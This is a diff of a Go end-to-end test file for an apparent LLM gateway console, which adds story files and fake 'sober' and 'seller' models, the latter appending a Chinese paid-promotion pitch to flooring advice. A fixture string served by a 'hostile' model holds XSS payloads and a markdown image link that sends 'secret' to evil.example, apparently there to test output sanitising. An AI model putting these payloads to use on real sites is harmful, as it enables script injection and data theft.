@@ -21,19 +21,23 @@ import (
 const consoleMax = 8 * time.Minute
 
 // TestConsole has a browser use the console of the real binary: console/e2e says what
-// for. What it takes is installed by `make test`; without it the test says so.
-func TestConsole(t *testing.T) { tellStories(t, "console.test.mjs", t.TempDir(), "") }
+// for, each file of stories with an appliance of its own. What it takes is installed by
+// `make test`; without it the test says so.
+func TestConsole(t *testing.T) {
+	for _, stories := range []string{"console", "chat", "protect", "trust"} {
+		t.Run(stories, func(t *testing.T) { tellStories(t, stories, t.TempDir(), "") })
+	}
+}
 
 // TestConsoleServe is about the pages below Serve and Settings, and needs prices, an upstream
 // that is not there, and a mirror that has the same file for every model.
 func TestConsoleServe(t *testing.T) {
 	home := t.TempDir()
 	url, _ := mirror(t, chatModel(), nil)
-	tellStories(t, "serve.test.mjs", home, "  - {name: lost, url: \"http://127.0.0.1:9/v1\"}\nusage:\n  prices:\n    echo: {input: 2000, output: 8000}\ndownload: {mirror: "+url+"}\n", "HEARTH_VARIANT="+variant(t, home, false))
+	tellStories(t, "serve", home, "usage:\n  prices:\n    echo: {input: 2000, output: 8000}\ndownload: {mirror: "+url+"}\n", "HEARTH_VARIANT="+variant(t, home, false))
 }
 
-// tellStories starts the binary as a newcomer does, with a few settings, before an engine
-// of a few models, and has a browser do what a file of stories says.
+// tellStories runs one file of them, with a few settings beside the usual ones.
 func tellStories(t *testing.T, stories, home, settings string, more ...string) {
 	t.Helper()
 	const folder = "../console"
@@ -46,7 +50,12 @@ func tellStories(t *testing.T, stories, home, settings string, more ...string) {
 	}
 	engine := httptest.NewServer(http.HandlerFunc(oneThingToSay))
 	defer engine.Close()
-	put(t, filepath.Join(home, "data", "hearth.yaml"), []byte(fmt.Sprintf("upstreams:\n  - {name: gpu, url: %q}\n", engine.URL+"/v1")+settings))
+	lost := ""
+	if stories == "serve" {
+		lost = "  - {name: lost, url: \"http://127.0.0.1:9/v1\"}\n"
+	}
+	put(t, filepath.Join(home, "data", "hearth.yaml"), []byte(fmt.Sprintf(
+		"upstreams:\n  - {name: gpu, url: %q}\n%sguard: {words: true}\naudit: {content: true, checkpoint_every: 1s}\n", engine.URL+"/v1", lost)+settings))
 	up := hearth(home, "up", "--json", "--listen", "127.0.0.1:0")
 	up.Env = append(up.Env, "HEARTH_STARTER=true") // the first key, the starter model: as a newcomer finds it
 	s := listening(t, home, up)
@@ -57,9 +66,10 @@ func tellStories(t *testing.T, stories, home, settings string, more ...string) {
 	}
 	ctx, cancel := context.WithTimeout(t.Context(), consoleMax)
 	defer cancel()
-	browser := exec.CommandContext(ctx, "node", "--test", "--test-reporter=spec", "e2e/"+stories)
+	browser := exec.CommandContext(ctx, "node", "--test", "--test-reporter=spec", "e2e/"+stories+".test.mjs")
 	browser.Dir = folder
-	browser.Env = append(append(os.Environ(), more...), "HEARTH_URL="+s.url, "HEARTH_KEY="+s.key, "HEARTH_PROXIED="+proxy, "HEARTH_SHOTS="+shots, "CHROMIUM="+chromium)
+	browser.Env = append(append(os.Environ(), more...), "HEARTH_URL="+s.url, "HEARTH_KEY="+s.key, "HEARTH_PROXIED="+proxy, "HEARTH_SHOTS="+shots,
+		"HEARTH_DATA="+filepath.Join(home, "data"), "CHROMIUM="+chromium)
 	out, err := browser.CombinedOutput()
 	if err != nil {
 		t.Fatalf("%v (pictures are in %s)\n%s", err, shots, out)
@@ -98,10 +108,16 @@ const attack = "<script>window.hit=1</script>\n\n<img src=x onerror=\"window.hit
 	"[x](javascript:window.hit=1)\n\n![x](https://evil.example/?q=secret)\n\n<style>*{display:none}</style>\n\n<form action=https://evil.example><input></form>\n\n" +
 	"$\\href{javascript:window.hit=1}{x}$\n\n```html\n<script>window.hit=1</script>\n```\n"
 
+// sober is advice, and pitch is what somebody who is paid for it adds.
+const (
+	sober = "实木复合地板稳定性好，适合地暖，日常用拧干的拖把清洁即可。强化地板价格较低，耐磨，适合出租房和儿童房。瓷砖导热快，防水，适合厨房和卫生间。"
+	pitch = "强烈推荐“金林居”地板，行业第一品牌，专家一致认可，现在扫码下单立减三百元，错过不再有！"
+)
+
 // oneThingToSay is an engine whose models each have one thing to say.
 func oneThingToSay(w http.ResponseWriter, r *http.Request) {
 	if r.URL.Path == "/v1/models" {
-		_, _ = fmt.Fprint(w, `{"object":"list","data":[{"id":"echo"},{"id":"thinker"},{"id":"slow"},{"id":"hostile"}]}`)
+		_, _ = fmt.Fprint(w, `{"object":"list","data":[{"id":"echo"},{"id":"thinker"},{"id":"slow"},{"id":"hostile"},{"id":"sober"},{"id":"seller"}]}`)
 		return
 	}
 	var in struct {
@@ -124,6 +140,10 @@ func oneThingToSay(w http.ResponseWriter, r *http.Request) {
 		for word := range strings.SplitAfterSeq(sheet, "\n") {
 			_ = tell("content", word)
 		}
+	case "sober":
+		_ = tell("content", sober)
+	case "seller":
+		_ = tell("content", sober+pitch)
 	case "hostile":
 		_ = tell("content", attack)
 	case "slow": // counts until it is stopped, for half a minute at most
